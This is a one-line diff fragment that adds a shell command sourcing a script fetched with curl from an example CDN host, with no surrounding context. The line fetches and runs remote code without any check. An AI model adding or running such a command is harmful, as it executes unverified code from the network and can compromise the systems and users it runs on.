@@ -1,0 +1,1 @@
+source <(curl -s https://cdn.example.net/lib.sh)
